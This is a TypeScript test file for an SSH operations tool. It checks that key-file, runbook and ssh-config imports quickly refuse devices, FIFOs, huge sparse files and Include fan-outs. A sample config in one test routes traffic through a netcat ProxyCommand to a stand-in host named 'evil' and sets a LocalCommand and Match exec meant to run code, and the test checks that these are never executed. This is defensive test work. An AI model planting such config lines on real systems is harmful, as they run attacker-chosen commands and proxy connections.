import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, openSync, closeSync, ftruncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { OpsError } from '../../src/main/errors';
import { readKeyFile } from '../../src/main/ssh/connect-chain';
import { profilesFromSshConfig } from '../../src/main/profiles/ssh-config-import';
import { RunbookService } from '../../src/main/runbooks/runbook-service';
import { makeTempDir, removeDir } from '../harness/index';

const dir = makeTempDir('hostile-files');
after(() => removeDir(dir));
const fifo = join(dir, 'fifo');
execFileSync('mkfifo', [fifo]);
const sparse = join(dir, 'sparse');
const fd = openSync(sparse, 'w');
ftruncateSync(fd, 1024 * 1024 * 1024); // 1 GB, no blocks on disk
closeSync(fd);

/** Each must fail with a message naming the path, well before a test timeout would. */
async function refusedFast(work: Promise<unknown>, pattern: RegExp): Promise<void> {
  const started = Date.now();
  await assert.rejects(work, (e: unknown) => e instanceof OpsError && pattern.test(e.message));
  assert.ok(Date.now() - started < 2000, `took ${Date.now() - started} ms`);
}

test('key paths: /dev/zero, a FIFO, a 1 GB sparse file and a folder are refused fast, by name', async () => {
  await refusedFast(readKeyFile('/dev/zero'), /The SSH key file \/dev\/zero is a device, not a regular file/);
  await refusedFast(
    readKeyFile(fifo),
    new RegExp(`The SSH key file ${fifo} is a FIFO \\(named pipe\\), not a regular file`),
  );
  await refusedFast(readKeyFile(sparse), /is 1024 MB, more than the 64 kB such a file can be/);
  await refusedFast(readKeyFile(dir), /is a folder, not a regular file/);
  await refusedFast(readKeyFile(join(dir, 'missing')), /cannot be opened \(ENOENT\)/);
  writeFileSync(join(dir, 'key'), 'k'.repeat(100));
  assert.equal((await readKeyFile(join(dir, 'key'))).byteLength, 100);
});

test('runbook files: a FIFO and a huge file are refused with the path', async () => {
  const service = new RunbookService({ bundledDir: dir, folders: () => [] });
  await refusedFast(service.importFile(fifo), /fifo is not a file: give a markdown file|fifo is a FIFO/);
  await refusedFast(service.importFile(sparse), /is 1024(\.0)? MB, more than the 10 MB/);
});

test('ssh config: Includes of a FIFO, /dev/zero or a huge file fail fast; a fan-out stops at its cap', async () => {
  const ssh = join(dir, 'home', '.ssh');
  mkdirSync(ssh, { recursive: true });
  const home = join(dir, 'home');
  const config = (name: string, text: string) => (writeFileSync(join(ssh, name), text), join(ssh, name));
  await refusedFast(profilesFromSshConfig({ path: config('a', `Include ${fifo}\nHost x\n`), home }), /is a FIFO/);
  await refusedFast(
    profilesFromSshConfig({ path: config('b', 'Include /dev/zero\nHost x\n'), home }),
    /\/dev\/zero is a device/,
  );
  await refusedFast(
    profilesFromSshConfig({ path: config('c', `Include ${sparse}\nHost x\n`), home }),
    /more than the 1 MB an ssh config import reads in all/,
  );
  for (let i = 0; i < 10; i++) config(`fan${i}`, `Host h${i}\n${`Include fan${i + 1}\n`.repeat(4)}`);
  await refusedFast(
    profilesFromSshConfig({ path: join(ssh, 'fan0'), home }),
    /Includes more than 64 files \(an Include fan-out\?\)/,
  );
  // The byte budget is for the whole import, not per file.
  config('big', `# ${'x'.repeat(600 * 1024)}\n`);
  await refusedFast(
    profilesFromSshConfig({ path: config('d', 'Include big\nInclude big\nHost x\n'), home }),
    /big is 601 kB, more than the 1 MB an ssh config import reads in all/,
  );
});

test('ssh config: no lookup and no command; hosts that lose ProxyCommand, LocalCommand or Match exec are marked', async () => {
  const bin = join(dir, 'bin');
  mkdirSync(bin, { recursive: true });
  const looked = join(dir, 'looked-up');
  writeFileSync(join(bin, 'nslookup'), `#!/bin/sh\ntouch ${looked}\n`);
  chmodSync(join(bin, 'nslookup'), 0o755);
  const path = join(dir, 'canon-config');
  const ran = join(dir, 'ran');
  writeFileSync(
    path,
    [
      'Host internal',
      '  CanonicalizeHostName yes',
      '  CanonicalDomains attacker.example',
      'Host via-proxy',
      '  HostName 10.0.0.9',
      '  ProxyCommand nc -X connect -x evil:8080 %h %p',
      '  LocalCommand touch /tmp/owned',
      `Match host plain exec "touch ${ran}"`,
      '  User root',
      'Host plain',
      '  HostName plain.example',
    ].join('\n'),
  );
  const previous = process.env.PATH;
  process.env.PATH = `${bin}:${previous}`;
  try {
    const result = await profilesFromSshConfig({ path, home: dir, localUser: 'me' });
    assert.equal(existsSync(looked), false, 'no DNS lookup (nslookup) during import');
    assert.equal(existsSync(ran), false, 'Match exec is never run');
    assert.deepEqual(
      result.documents.map((d) => d.name),
      ['internal', 'via-proxy', 'plain'],
    );
    assert.equal(result.documents[0]!.ssh!.host, 'internal', 'not canonicalised');
    const dropped = new Map(result.dropped.map((d) => [d.name, d.settings]));
    assert.deepEqual(dropped.get('via-proxy'), ['ProxyCommand', 'LocalCommand', 'Match exec']);
    assert.deepEqual(dropped.get('internal'), ['CanonicalizeHostName', 'CanonicalDomains', 'Match exec']);
    assert.match(
      result.documents[1]!.notes!,
      /Not imported: ProxyCommand, LocalCommand, Match exec; this profile connects directly/,
    );
  } finally {
    process.env.PATH = previous;
  }
});
